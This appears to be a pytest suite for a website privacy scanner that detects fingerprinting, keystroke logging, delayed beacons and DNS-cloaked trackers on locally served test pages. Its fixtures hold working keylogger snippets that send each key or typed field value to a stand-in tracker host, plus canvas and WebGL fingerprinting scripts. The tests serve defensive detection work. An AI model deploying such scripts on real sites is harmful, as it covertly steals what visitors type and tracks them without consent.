"""What tells a browser apart, what reads along and what hides: each by a page that does that one thing, and pages that do not."""

import asyncio
import struct
import threading
from contextlib import contextmanager
from datetime import UTC, datetime
from socket import AF_INET, SOCK_DGRAM, socket

import pytest

from browser.sites import bed
from holdtrue.website.scan.engine.observations import Kind, State
from holdtrue.website.scan.engine.run import Options, scan
from holdtrue.website.scan.faults import Fault, Severity
from holdtrue.website.scan.rules import judge

TRACKER = "watch.other.example"
FORM = "<form><label>Remark <input type='text' name='remark'></label></form>"
FONTS = """const line = document.createElement("div"); document.body.append(line);
for (let i = 0; i < 40; i++) { const one = document.createElement("span"); one.textContent = SAID; one.style.fontFamily = `'Font ${i}', monospace`; line.append(one); one.offsetWidth; }"""
LATE = "fetchLater('http://watch.other.example/later', { method: 'POST', body: 'x', activateAfter: 60000 });"
BARS = """const canvas = document.createElement("canvas"); canvas.width = 500; canvas.height = 260; const pen = canvas.getContext("2d");
PLACE; pen.fillText("Loans a year, by branch", 20, 20);
for (let i = 0; i < YEARS; i++) { pen.fillStyle = "#357"; pen.fillRect(40 + 50 * i, 240 - 20 * i, 30, 20 * i); pen.fillText(`${2015 + i}: ${1200 + 37 * i}`, 40 + 50 * i, 255); }
const link = document.createElement("a"); link.textContent = "PNG"; link.download = "chart.png"; document.body.append(link);"""
SHOWN = BARS.replace("PLACE", "document.body.append(canvas)")
ASIDE = BARS.replace("PLACE", "").replace("YEARS", "9")
PANGRAM = """const canvas = document.createElement("canvas"); canvas.width = 300; canvas.height = 60; const pen = canvas.getContext("2d");
pen.font = "14px Arial"; pen.fillText("Cwm fjordbank glyphs vext quiz", 4, 17); document.body.append(canvas);
const link = document.createElement("a"); document.body.append(link);"""
PICTURES = {
    "chart": SHOWN.replace("YEARS", "8") + "link.href = canvas.toDataURL();",
    "small-chart": SHOWN.replace("YEARS", "3") + "link.setAttribute('href', canvas.toDataURL('image/png'));",
    "export": ASIDE + "canvas.toBlob((blob) => { link.href = URL.createObjectURL(blob); });",
    "cloud": ASIDE + "pen.getImageData(0, 0, 500, 260);",
    "sparks": PANGRAM
    + "const dots = pen.getImageData(0, 0, 300, 60); setTimeout(() => { pen.clearRect(0, 0, 300, 60); pen.fillRect(dots.data[3], 4, 2, 2); }, 60);",
}
"""Pictures that are drawn for the visitor, and read back for the visitor."""
PRINTS = {
    "shown-kept": PANGRAM + "window.kept = canvas.toDataURL();",
    "shown-hashed": PANGRAM
    + "link.href = canvas.toDataURL(); crypto.subtle.digest('SHA-256', new TextEncoder().encode(link.href));",
    "shown-sent": PANGRAM
    + "link.href = canvas.toDataURL(); setTimeout(() => fetch('/print', { method: 'POST', body: canvas.toDataURL() }), 100);",
    "shown-later": PANGRAM
    + "const held = canvas.toDataURL(); setTimeout(() => fetch('/print', { method: 'POST', body: held.slice(-200) }), 1500);",
    "shown-pixels": PANGRAM + "window.kept = pen.getImageData(0, 0, 300, 60).data.join().length;",
    "off-the-page": PANGRAM + "canvas.style.cssText = 'position:absolute;left:-9999px'; link.href = canvas.toDataURL();",
    "unseen": PANGRAM + "canvas.style.opacity = 0; link.href = canvas.toDataURL();",
    "never-shown": PANGRAM + "canvas.remove(); window.kept = canvas.toDataURL();",
}
"""Pictures that are drawn to tell browsers apart, though some stand in the page."""
SCRIPTS = {
    "webgl": """const pen = document.createElement("canvas").getContext("webgl"); const info = pen.getExtension("WEBGL_debug_renderer_info");
    pen.getParameter(info.UNMASKED_VENDOR_WEBGL); pen.getParameter(info.UNMASKED_RENDERER_WEBGL);""",
    "drawing": """const pen = document.createElement("canvas").getContext("webgl"); pen.getParameter(pen.MAX_TEXTURE_SIZE); pen.getParameter(pen.VERSION); pen.getExtension("WEBGL_debug_renderer_info");""",
    "battery": "navigator.getBattery().then((one) => [one.level, one.charging, one.chargingTime, one.dischargingTime]);",
    "saving": "navigator.getBattery().then((one) => { if (!one.charging && one.level < .2) document.title = 'low'; });",
    "webrtc": """const line = new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.other.example:3478" }] }); line.createDataChannel("x");
    line.createOffer().then((offer) => line.setLocalDescription(offer));""",
    "calling": """const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()]; here.createDataChannel("x");
    here.createOffer().then(async (offer) => { await here.setLocalDescription(offer); await there.setRemoteDescription(offer);
      const answer = await there.createAnswer(); await there.setLocalDescription(answer); await here.setRemoteDescription(answer); });""",
    "fonts": f"const SAID = 'mmMwWLliI0O&1';{FONTS}",
    "picker": FONTS.replace("SAID", "`Font ${i}`"),
    "later": LATE,
    "letters": f"addEventListener('keydown', (event) => navigator.sendBeacon('http://{TRACKER}/key', JSON.stringify({{ k: event.key, at: Date.now() }})));",
    "shortcuts": f"addEventListener('keydown', (event) => {{ if (event.key === 'Shift') navigator.sendBeacon('http://{TRACKER}/key', 'shift'); }});",
    "frame": """const gone = document.createElement("iframe"); gone.src = "http://gone.localhost/frame"; document.body.append(gone);
    addEventListener("message", () => gone.remove());""",
}
READING = {
    "numbers": f"addEventListener('keyup', (event) => {{ new Image().src = 'http://{TRACKER}/k?c=' + event.keyCode; }});",
    "places": f"const went = []; addEventListener('keydown', (event) => went.push(event.code)); setTimeout(() => fetch('http://{TRACKER}/all', {{ method: 'POST', body: went.join(), mode: 'no-cors' }}), 2500);",
    "blobs": f"addEventListener('input', (event) => navigator.sendBeacon('http://{TRACKER}/in', new Blob([JSON.stringify({{ v: event.target.value }})])));",
    "later": f"let held = ''; addEventListener('input', (event) => {{ held = event.target.value; }}); setTimeout(() => fetch('http://{TRACKER}/all?' + held, {{ mode: 'no-cors' }}), 2400);",
    "home": "addEventListener('input', (event) => navigator.sendBeacon('/replay', event.target.value));",
    "homekeys": "addEventListener('keydown', (event) => fetch('/replay', { method: 'POST', body: event.key }));",
    "helpful": "addEventListener('change', (event) => { fetch('/is-free?name=' + event.target.value); localStorage.draft = event.target.value; });",
}
FIELDS = {
    "mailonly": "<form><input type='email' name='to'></form>",
    "note": "<div contenteditable style='width:300px;height:60px'></div>",
    "inroot": "<mill-form><template shadowrootmode='open'><textarea name='words'></textarea></template></mill-form>",
    "inframe": "<iframe srcdoc=\"<textarea name='words'></textarea><script src='http://inframe.localhost/own.js'></script>\"></iframe>",
}
SENDING = f"addEventListener('input', (event) => navigator.sendBeacon('http://{TRACKER}/in', event.target.value || event.composedPath()[0].value || event.target.textContent));"
for name, text in READING.items():
    SCRIPTS[f"reads-{name}"] = text
for name in FIELDS:
    SCRIPTS[name] = SENDING
SCRIPTS |= PICTURES | PRINTS
SCRIPTS["chart-beside"] = PICTURES["chart"]
FIELDS["chart-beside"] = "<script src='/print.js'></script>"
bed.page("chart-beside.localhost", "/print.js")(
    lambda _: bed.Answer(
        "setInterval(() => crypto.subtle.digest('SHA-256', new TextEncoder().encode('data:image/png;base64,AAAA')), 40);",
        kind="text/javascript",
    )
)
for name in PRINTS:
    bed.page(f"{name}.localhost", "/print")(lambda _: bed.Answer("", status=204))
for name, text in SCRIPTS.items():
    fields = FIELDS.get(name, FORM)
    bed.page(f"{name}.localhost")(
        lambda _, fields=fields: bed.document(f"<h1>Page</h1>{fields}<script src='/own.js'></script>")
    )
    bed.page(f"{name}.localhost", "/own.js")(lambda _, text=text: bed.Answer(text, kind="text/javascript"))
for path in ("/replay", "/is-free"):
    for name in ("home", "homekeys", "helpful"):
        bed.page(f"reads-{name}.localhost", path)(lambda _: bed.Answer("", status=204))
bed.page(TRACKER, "*")(lambda _: bed.Answer("", status=204))

LEFT = """<script>indexedDB.open("gone_base").onsuccess = (one) => { one.target.result.close();
(window.caches ? caches.open("gone_cache") : Promise.resolve()).then(() => parent.postMessage("done", "*")); };</script>"""
bed.page("gone.localhost", "/frame")(lambda _: bed.document(LEFT))
bed.page("stats.shop.example", "*")(
    lambda _: bed.Answer("document.cookie = '_st=1; path=/; max-age=90000'", kind="text/javascript")
)
bed.page("shop.example")(lambda _: bed.document("<h1>Shop</h1><script src='http://stats.shop.example/s.js'></script>"))


@pytest.fixture(scope="module")
def look():
    with bed.serving() as port:

        def scanned(url, **more):
            rules = (f"MAP * 127.0.0.1:{port}",)
            states = frozenset({State.NO_CHOICE})
            return asyncio.run(
                scan(Options(url=url, clock=lambda: datetime.now(UTC), pages=1, host_rules=rules, states=states, **more))
            )

        yield scanned


def told(sighting, kind):
    return {(one.name, one.domain, one.set_by) for one in sighting.observations if one.kind is kind}


@pytest.mark.parametrize("sort", ["webgl", "battery", "webrtc", "fonts"])
def test_this_way_of_telling_browsers_apart_is_told_with_its_script(look, sort):
    host = f"{sort}.localhost"

    assert told(look(f"http://{host}/"), Kind.FINGERPRINT) == {(sort, host, f"http://{host}/own.js")}


@pytest.mark.parametrize("name", ["drawing", "saving", "calling", "picker"])
def test_what_only_resembles_it_is_let_be(look, name):
    assert told(look(f"http://{name}.localhost/"), Kind.FINGERPRINT) == set()


@pytest.mark.parametrize("name", PICTURES)
def test_a_picture_for_the_visitor_to_keep_is_no_fingerprint(look, name):
    assert told(look(f"http://{name}.localhost/"), Kind.FINGERPRINT) == set()


def test_a_picture_to_keep_is_none_though_another_script_hashes_something_meanwhile(look):
    assert told(look("http://chart-beside.localhost/"), Kind.FINGERPRINT) == set()


@pytest.mark.parametrize("name", PRINTS)
def test_a_picture_that_tells_browsers_apart_is_told_though_it_stands_in_the_page(look, name):
    host = f"{name}.localhost"

    assert told(look(f"http://{host}/"), Kind.FINGERPRINT) == {("canvas", host, f"http://{host}/own.js")}


def test_the_server_that_tells_a_page_its_address_is_told_as_a_recipient(look):
    (one,) = [one for one in look("http://webrtc.localhost/").observations if one.kind is Kind.REQUEST]

    assert (one.domain, one.via, one.set_by) == ("stun.other.example", "webrtc", "http://webrtc.localhost/own.js")


def test_what_is_to_be_sent_once_the_page_is_left_is_seen_while_it_stands(look):
    assert told(look("http://later.localhost/"), Kind.BEACON) == {
        (f"{TRACKER}/later", TRACKER, "http://later.localhost/own.js")
    }


def test_a_script_that_sends_each_letter_by_itself_reads_along(look):
    sighting = look("http://letters.localhost/")

    (one,) = [one for one in sighting.observations if one.kind is Kind.KEY_LOGGING]
    assert (one.domain, one.set_by, one.via) == (TRACKER, "http://letters.localhost/own.js", "letter by letter")
    assert Fault.KEY_LOGGING in {finding.fault for finding in judge(sighting, (), has_policy=True)}


@pytest.mark.parametrize(
    ("name", "via"),
    [
        ("reads-numbers", "letter by letter"),
        ("reads-places", "letter by letter"),
        ("reads-blobs", "text"),
        ("reads-later", "text"),
        ("mailonly", "text"),
        ("note", "text"),
        ("inroot", "text"),
        ("inframe", "text"),
    ],
)
def test_whoever_reads_along_is_told_however_it_is_done_and_before_any_choice(look, name, via):
    told = [
        (one.domain, one.via, one.state)
        for one in look(f"http://{name}.localhost/").observations
        if one.kind is Kind.KEY_LOGGING
    ]

    assert told == [(TRACKER, via, State.NO_CHOICE)]


@pytest.mark.parametrize("name", ["reads-home", "reads-homekeys"])
def test_a_site_that_reads_along_itself_is_told_with_less_weight(look, name):
    findings = judge(look(f"http://{name}.localhost/"), (), has_policy=True)

    told = [(one.subject, one.severity) for one in findings if one.fault is Fault.KEY_LOGGING]
    assert told == [(f"{name}.localhost", Severity.MEDIUM)]


def test_a_site_that_checks_its_own_form_reads_nothing(look):
    assert told(look("http://reads-helpful.localhost/"), Kind.KEY_LOGGING) == set()


def test_a_script_that_knows_one_key_reads_nothing(look):
    assert told(look("http://shortcuts.localhost/"), Kind.KEY_LOGGING) == set()


def test_the_database_and_the_cache_of_a_frame_that_is_gone_are_known_and_not_taken_for_gone(look):
    stored = {
        (one.kind, one.name, one.domain, one.deleted)
        for one in look("http://frame.localhost/").observations
        if one.kind.is_stored
    }

    assert stored == {
        (Kind.INDEXED_DB, "gone_base", "gone.localhost", False),
        (Kind.CACHE_STORAGE, "gone_cache", "gone.localhost", False),
    }


@contextmanager
def resolver(aliases):
    """A DNS on loopback that knows these aliases and nothing else (RFC 1035)."""
    with socket(AF_INET, SOCK_DGRAM) as own:
        own.bind(("127.0.0.1", 0))
        own.settimeout(0.1)
        ended = threading.Event()

        def serve():
            while not ended.is_set():
                try:
                    asked, whom = own.recvfrom(512)
                except TimeoutError:
                    continue
                end = asked.index(b"\0", 12)
                name = b".".join(_labels(asked[12:end])).decode()
                target = b"".join(bytes([len(one)]) + one.encode() for one in aliases.get(name, "").split(".") if one)
                answer = b"\xc0\x0c" + struct.pack(">HHIH", 5, 1, 60, len(target) + 1) + target + b"\0" if target else b""
                head = asked[:2] + struct.pack(">HHHHH", 0x8180, 1, bool(answer), 0, 0)
                own.sendto(head + asked[12 : end + 5] + answer, whom)

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield f"127.0.0.1:{own.getsockname()[1]}"
        finally:
            ended.set()
            thread.join()


def _labels(raw):
    while raw:
        yield raw[1 : raw[0] + 1]
        raw = raw[raw[0] + 1 :]


def test_a_tracker_behind_the_sites_own_name_is_found_by_asking_the_dns(look):
    with resolver({"stats.shop.example": "shop.collect.other.example"}) as dns:
        sighting = look("http://shop.example/", dns=dns)

    assert {(one.domain, one.alias_of) for one in sighting.observations if one.alias_of} == {
        ("stats.shop.example", "shop.collect.other.example")
    }
    (finding,) = [one for one in judge(sighting, (), has_policy=True) if one.fault is Fault.CLOAKED]
    assert finding.subject == "stats.shop.example"


def test_a_name_that_is_no_alias_is_the_sites_own(look):
    with resolver({}) as dns:
        sighting = look("http://shop.example/", dns=dns)

    assert not any(one.alias_of for one in sighting.observations)
    assert Fault.CLOAKED not in {one.fault for one in judge(sighting, (), has_policy=True)}
